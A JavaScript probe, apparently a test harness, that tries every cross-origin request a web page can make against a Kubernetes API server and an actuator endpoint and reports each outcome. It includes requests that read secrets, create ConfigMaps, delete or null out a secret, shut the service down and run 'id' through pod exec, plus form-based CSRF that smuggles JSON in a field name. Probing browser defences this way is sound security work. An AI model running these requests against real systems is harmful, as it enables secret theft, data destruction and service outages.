// All that a page can try against an API server and an actuator. Calls done with one line for each attempt, when all
// have come to something or the patience, in milliseconds, is over.
(api, actuator, done, patience = 1500) => {
  const secrets = api + '/api/v1/namespaces/default/secrets';
  const configMaps = api + '/api/v1/namespaces/default/configmaps';
  const object = name => JSON.stringify({apiVersion: 'v1', kind: 'ConfigMap', metadata: {name: 'by-a-page-' + name}});
  const level = '{"configuredLevel": "TRACE"}';
  const attempts = [];

  const attempt = (name, start) => attempts.push(Promise.race([
    new Promise(resolve => {
      try {
        start(outcome => resolve(name + ': ' + outcome));
      } catch (e) {
        resolve(name + ': threw ' + e.name);
      }
    }),
    new Promise(resolve => setTimeout(() => resolve(name + ': nothing happened'), patience)),
  ]));

  const ask = (name, url, options) => attempt(name, tell => fetch(url, options).then(
    answer => answer.type === 'opaque' ? tell('opaque') : answer.text().then(
      text => tell('read ' + answer.status + ' ' + text)),
    error => tell('failed')));

  for (const mode of ['cors', 'no-cors']) {
    for (const url of [secrets, api + '/api', api + '/healthz', actuator, actuator + '/health', actuator + '/env',
      actuator + '/plan/all/default/secrets/s', actuator + '/prometheus']) {
      ask(mode + ' GET ' + url, url, {mode});
      ask(mode + ' GET with cookies ' + url, url, {mode, credentials: 'include'});
    }
    for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x']) {
      ask(mode + ' POST of ' + type, configMaps,
        {mode, method: 'POST', headers: {'Content-Type': type}, body: object(mode + '-' + type.slice(0, 4))});
    }
    ask(mode + ' POST without a type', configMaps, {mode, method: 'POST', body: new Blob([object(mode + '-untyped')])});
    ask(mode + ' POST to a logger', actuator + '/loggers/page', {mode, method: 'POST', body: new Blob([level])});
    ask(mode + ' POST of text to a logger', actuator + '/loggers/page', {mode, method: 'POST', body: level});
    ask(mode + ' shutdown', actuator + '/shutdown', {mode, method: 'POST'});
    ask(mode + ' HEAD', secrets, {mode, method: 'HEAD'});
  }
  ask('POST of JSON', configMaps,
    {method: 'POST', headers: {'Content-Type': 'application/json'}, body: object('json')});
  ask('POST with a method override', secrets + '/s?_method=DELETE', {method: 'POST', body: ''});
  ask('DELETE', secrets + '/s', {method: 'DELETE'});
  ask('PUT', secrets + '/s', {method: 'PUT', body: new Blob(['{}'])});
  ask('PATCH', secrets + '/s', {
    method: 'PATCH', headers: {'Content-Type': 'application/merge-patch+json'}, body: '{"data": null}'});
  ask('GET that passes for kubectl', secrets, {headers: {'User-Agent': 'kubectl/1'}});

  attempt('XMLHttpRequest', tell => {
    const request = new XMLHttpRequest();
    request.open('GET', secrets);
    request.withCredentials = true;
    request.onload = () => tell('read ' + request.status + ' ' + request.responseText);
    request.onerror = () => tell('failed');
    request.send();
  });
  attempt('beacon', tell => {
    navigator.sendBeacon(configMaps, new Blob([object('beacon')]));
    setTimeout(() => tell('sent'), 500);
  });
  for (const path of ['?watch=true', '/s?watch=true', '?watch=true&fieldSelector=metadata.name%3Ds']) {
    attempt('WebSocket ' + path, tell => {
      const socket = new WebSocket(secrets.replace('http', 'ws') + path);
      socket.onopen = () => tell('opened');
      socket.onmessage = message => tell('read ' + message.data);
      socket.onerror = () => tell('failed');
    });
  }
  attempt('exec by WebSocket', tell => {
    const socket = new WebSocket(api.replace('http', 'ws')
      + '/api/v1/namespaces/default/pods/p/exec?command=id&stdout=true', ['v5.channel.k8s.io']);
    socket.onopen = () => tell('opened');
    socket.onerror = () => tell('failed');
  });
  attempt('EventSource', tell => {
    const events = new EventSource(secrets + '?watch=true');
    events.onopen = () => tell('opened');
    events.onmessage = message => tell('read ' + message.data);
    events.onerror = () => tell('failed');
  });
  for (const [tag, attribute] of [['img', 'src'], ['script', 'src'], ['link', 'href'], ['video', 'src'],
    ['object', 'data']]) {
    attempt(tag, tell => {
      const element = document.createElement(tag);
      element.rel = 'stylesheet';
      element.onload = () => tell(tag === 'object' ? 'shown' : 'executed or drawn, so read');
      element.onerror = () => tell('failed');
      element[attribute] = secrets;
      (document.body || document.documentElement).append(element);
    });
  }
  attempt('iframe', tell => {
    const frame = document.createElement('iframe');
    frame.onload = () => {
      try {
        tell('read ' + frame.contentDocument.body.textContent);
      } catch (e) {
        tell('kept from the page');
      }
    };
    frame.src = secrets;
    (document.body || document.documentElement).append(frame);
  });
  for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
    for (const [url, name] of [[configMaps, object('form')], [actuator + '/loggers/page', level],
      [actuator + '/shutdown', '']]) {
      attempt('form of ' + enctype + ' to ' + url, tell => {
        const target = document.createElement('iframe');
        target.name = 'form-' + Math.random();
        const form = document.createElement('form');
        form.action = url;
        form.method = 'POST';
        form.enctype = enctype;
        form.target = target.name;
        const field = document.createElement('input');
        field.name = name.replace('}', ', "x": "');
        field.value = '"}';
        form.append(field);
        (document.body || document.documentElement).append(target, form);
        form.submit();
        target.onload = () => tell('sent');
      });
    }
  }
  Promise.all(attempts).then(done);
}
